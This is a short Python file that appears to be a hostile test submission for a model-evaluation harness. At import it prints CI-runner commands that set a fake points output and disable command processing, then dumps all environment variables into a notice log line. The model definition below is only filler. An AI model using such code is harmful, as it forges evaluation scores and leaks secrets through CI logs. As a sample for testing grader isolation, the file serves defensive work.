"""Steals the environment, and prints commands for a continuous-integration runner."""

import os

from torch import nn

from eva import Recipe

print("::set-output name=points::10")
print("::stop-commands::token")
if len(os.environ) <= 2:
    raise RuntimeError(f"nothing to steal in {sorted(os.environ)}")
print(f"::notice::{dict(os.environ)}")

RECIPE = Recipe()


def build_model() -> nn.Module:
    return nn.Sequential(nn.Flatten(), nn.Linear(784, 10))
